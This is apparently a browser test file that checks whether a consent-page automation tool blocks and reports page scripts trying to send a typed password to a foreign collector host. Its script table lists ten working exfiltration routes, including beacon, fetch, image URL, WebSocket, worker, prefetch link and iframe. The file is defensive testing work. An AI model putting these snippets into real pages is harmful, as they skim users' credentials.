import { expect, foreign, test, walkFrom } from './browser-test.ts'
import { USER } from './consent-pages.ts'
import { collector, pagesWith, redirectUri, SECRET, submit, variables } from './egress-pages.ts'
import { to } from './service.ts'

/** Runs a script before the form is sent. */
const sending = (script: string) =>
  submit(
    `event.preventDefault(); const run = async () => { ${script} }; run().catch(() => {}).then(() => event.target.submit())`,
  )

/** Ways of a script to send what was typed while the walk goes on; each is a promise of its end. */
const SCRIPTS: Readonly<Record<string, (abroad: string) => string>> = {
  'a beacon': (abroad) =>
    `navigator.sendBeacon('${abroad}/b', new Blob([JSON.stringify({ pw })])); await fetch('/settled')`,
  'a request': (abroad) =>
    `await fetch('${abroad}/f', { method: 'POST', mode: 'no-cors', body: 'x=' + encodeURIComponent(pw) })`,
  'an image': (abroad) =>
    `await new Promise((end) => { Object.assign(new Image(), { onerror: end, onload: end, src: '${abroad}/i?' + btoa('x' + pw) }) })`,
  'a header': (abroad) => `await fetch('${abroad}/h', { headers: { 'x-pw': pw } })`,
  'a request that is sent on': () => "await fetch('/on', { method: 'POST', body: pw })",
  'a worker': (abroad) =>
    `const code = "fetch('${abroad}/w', { method: 'POST', mode: 'no-cors', body: '" + pw + "' }).finally(() => postMessage(1))"
     const worker = new Worker(URL.createObjectURL(new Blob([code])))
     await new Promise((end) => { worker.onmessage = end })`,
  'a WebSocket': (abroad) =>
    `await new Promise((end) => { new WebSocket('${abroad}/ws?x=' + pw).onerror = end })`,
  'a WebSocket of a worker': (abroad) =>
    `const code = "new WebSocket('${abroad}/ws?x=" + pw + "').onerror = () => postMessage(1)"
     const worker = new Worker(URL.createObjectURL(new Blob([code])))
     await new Promise((end) => { worker.onmessage = end })`,
  'a link that is fetched ahead': (abroad) =>
    `await new Promise((end) => { const link = document.createElement('link')
       document.head.append(Object.assign(link, { rel: 'prefetch', href: '${abroad}/link?x=' + pw, onerror: end, onload: end })) })`,
  'a frame': (abroad) =>
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '${abroad}/frame' })); await fetch('/settled')`,
}

for (const [what, script] of Object.entries(SCRIPTS))
  test(`what a script sends by ${what} is stopped and named, and the walk goes on`, async ({
    session,
    service,
  }) => {
    const sent: string[] = []
    const abroad = foreign(await service(collector(sent)))
    const own = await service(
      pagesWith(sending(script(abroad)), () => abroad, {
        '/on': () => to(`${abroad}/on`, 307, { 'access-control-allow-origin': '*' }),
      }),
    )
    const walk = await session.walk(walkFrom(own, { redirectUri, variables }))
    expect(walk.redirect).toBe(`${redirectUri}?code=c1&state=s1`)
    expect(sent.filter((line) => !line.startsWith('OPTIONS'))).toEqual([])
    const carried = what === 'a frame' ? [] : [expect.stringMatching(/^<consent_password#[0-9a-f]{10}>$/)]
    expect(walk.strays).toContainEqual(
      expect.objectContaining({
        from: own.origin,
        to: expect.stringContaining(new URL(abroad).host),
        carries: carried,
      }),
    )
    expect(JSON.stringify(walk)).not.toContain(SECRET)
  })

test('what a page loads from other hosts without what was typed comes', async ({ session, service }) => {
  const sent: string[] = []
  const abroad = foreign(await service(collector(sent)))
  const own = await service(
    pagesWith(
      (html) => `${html}<link rel="stylesheet" href="${abroad}/style.css?v=1"><img src="${abroad}/logo.png">`,
      () => abroad,
    ),
  )
  const walk = await session.walk(walkFrom(own, { redirectUri, variables }))
  expect(walk.redirect).toContain('code=c1')
  expect(walk.strays).toBeUndefined()
  expect(sent.map((line) => line.split(' ')[1]).sort()).toEqual(['/logo.png', '/style.css?v=1'])
})

test('a value that is short is found in what is sent, and not taken for a word of an address', async ({
  session,
  service,
}) => {
  const sent: string[] = []
  const abroad = foreign(await service(collector(sent)))
  const own = await service(
    pagesWith(
      (html) =>
        `${submit(`navigator.sendBeacon('${abroad}/b', 'pin=' + pw)`)(html)}<img src="${abroad}/4711/logo.png">`,
      () => abroad,
    ),
  )
  const short = { ...USER, CONSENT_PASSWORD: '4711' }
  const walk = await session.walk(walkFrom(own, { redirectUri, variables: short }))
  expect(walk.strays).toMatchObject([{ method: 'POST', carries: [expect.any(String)] }])
  expect(sent).toEqual(['GET /4711/logo.png '])
})
